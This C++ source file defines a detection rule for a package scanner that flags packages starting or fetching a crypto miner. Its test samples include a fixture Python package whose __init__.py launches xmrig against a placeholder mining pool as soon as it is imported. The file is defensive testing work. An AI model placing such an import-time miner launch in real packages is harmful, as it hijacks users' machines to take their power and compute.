#include "rules/commands.h"
#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_shipped(action)) continue;
    const bool reaches = is_process(action.act) || action.act == Act::fetch ||
                         action.act == Act::connect || action.act == Act::write_file;
    if (!reaches || !(speaks_of_mining(action.target) || speaks_of_mining(action.data_text)))
      continue;
    findings.add(runs_uncalled(action) ? Severity::critical : Severity::medium, action.where,
                 sentence("reaches for a miner, \"" + shown(action.target) + "\",", action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule mines = {
    .id = "mines",
    .title = "The package starts or fetches a crypto miner",
    .why =
        "Mining on somebody else's machine is theft of power and time, and the most common "
        "load of taken-over packages.",
    .harmless_when = "A miner's own package, or a monitor that only reads a pool's statistics.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a module starts a miner when imported",
     .expect = "widget/__init__.py:2",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.test:3333"])
)"},
    {.name = "a module starts something else", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import subprocess
def run():
    subprocess.Popen(["./server", "-o", "log.txt"])
)"},
};
extern const std::span<const Sample> mines_samples = samples;
#endif

}  // namespace assay::rules
